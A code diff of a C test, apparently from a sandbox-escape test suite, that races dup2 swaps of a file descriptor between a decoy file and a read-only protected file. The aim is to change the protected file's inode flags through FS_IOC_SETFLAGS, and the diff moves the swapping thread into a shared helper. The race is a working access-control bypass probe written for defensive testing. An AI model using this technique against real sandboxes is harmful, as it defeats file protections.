@@ -13,30 +13,16 @@
  */
 #include "esc.h"
 #include <linux/fs.h>
-#include <pthread.h>
-#include <stdatomic.h>
 #include <sys/ioctl.h>
 
 #define TARGET_FD 100
 
-static atomic_bool stop;
 static int ro, decoy;
-
-static void *flipper(void *arg)
-{
-	(void)arg;
-	while (!atomic_load(&stop)) {
-		dup2(decoy, TARGET_FD);
-		dup2(ro, TARGET_FD);
-	}
-	return NULL;
-}
 
 int main(void)
 {
 	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
 	int before, now, dflags;
-	pthread_t t;
 	long tries = 0;
 
 	ro = open(victim, O_RDONLY);
@@ -47,22 +33,19 @@ int main(void)
 		esc_broken("decoy: %s", strerror(errno));
 	if (ioctl(ro, FS_IOC_GETFLAGS, &before) < 0 || ioctl(decoy, FS_IOC_GETFLAGS, &dflags) < 0)
 		esc_skip("FS_IOC_GETFLAGS: %s (no inode flags on this file system)", strerror(errno));
-	if (pthread_create(&t, NULL, flipper, NULL))
-		esc_broken("pthread_create");
+	esc_dup2_flip_start(decoy, ro, TARGET_FD);
 	for (double end = esc_now() + 5; esc_now() < end; tries++) {
 		int f = before ^ FS_NODUMP_FL;
 
 		ioctl(TARGET_FD, FS_IOC_SETFLAGS, &f);
 		if (ioctl(ro, FS_IOC_GETFLAGS, &now) == 0 && now != before) {
-			atomic_store(&stop, true);
-			pthread_join(t, NULL);
+			esc_dup2_flip_stop();
 			ioctl(ro, FS_IOC_SETFLAGS, &before); /* put it back (natively) */
 			esc_success("chattr +d reached protected/victim.txt through a swapped fd "
 				    "after %ld tries (flags %#x -> %#x)",
 				    tries, before, now);
 		}
 	}
-	atomic_store(&stop, true);
-	pthread_join(t, NULL);
+	esc_dup2_flip_stop();
 	esc_blocked("protected/victim.txt kept its flags in %ld tries", tries);
 }
